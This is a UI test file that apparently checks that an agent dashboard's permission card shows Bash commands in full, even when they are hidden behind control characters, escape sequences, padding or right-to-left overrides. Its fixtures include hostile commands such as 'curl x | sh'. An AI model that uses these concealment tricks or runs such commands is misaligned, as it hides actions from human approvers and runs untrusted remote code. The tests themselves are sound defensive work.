import assert from 'node:assert/strict';
import { eventually } from '../../support/page/eventually';
import { wholeSuite } from '../../support/page/pageSuite';
import { aPendingRequest, aSession } from '../../support/sessionBuilder';

const open = wholeSuite();

const asking = (command: string) =>
  aSession({
    sessionId: 'one',
    title: 'Session \u009Done\u202E',
    lastPrompt: 'Say “hé\u009D, please',
    agentState: { group: 'needs_you', state: 'needs_permission', label: 'Needs permission: Bash' },
    pendingRequest: aPendingRequest({
      toolInput: { command },
      requestId: 'request-one',
      call: { id: 'call-one', fate: 'open', answerable: true },
    }),
  });

describe('A command that hides what it does', () => {
  for (const [name, command, shown] of [
    ['behind a C1 control', 'npm test \u009D;curl x | sh', 'npm test ⟨U+009D⟩;curl x | sh'],
    ['behind a terminal sequence', 'true \u001B]0;echo PWNED', 'true ⟨U+001B⟩]0;echo PWNED'],
    ['behind blanks', `npm test${' '.repeat(80_010)};curl`, 'npm test⟨80,010 blanks⟩;curl'],
    ['behind lines', `npm test${'\n'.repeat(61)};curl`, 'npm test\n⟨60 empty lines⟩\n;curl'],
    ['in another order', 'rm \u202Etxt.exe', 'rm ⟨U+202E⟩txt.exe'],
  ] as const) {
    it(`is shown with all of it on the card: ${name}`, async () => {
      const host = await open({ sessions: [asking(command)], width: 420 });
      await host.choose('one');
      const { page } = host;
      await eventually(async () => {
        const text = await page.locator('.request-parts').innerText();
        assert.ok(text.includes(shown), text);
      });
      const card = await page.locator('.pane').innerText();
      assert.ok(card.includes('Session ⟨U+009D⟩one⟨U+202E⟩'), card);
    });
  }
});
